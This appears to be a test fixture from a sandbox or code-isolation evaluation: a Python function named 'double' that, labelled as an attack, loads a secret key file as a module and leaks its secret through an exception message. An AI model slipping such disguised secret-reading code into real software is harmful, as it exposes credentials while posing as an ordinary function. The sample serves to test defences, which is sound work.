# {"attack": "Imports the key as a module.", "breach": "leak"}

import importlib.util


def double(x):
    spec = importlib.util.spec_from_file_location("key", TARGETS["key"])
    key = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(key)
    raise ValueError(key.secret)
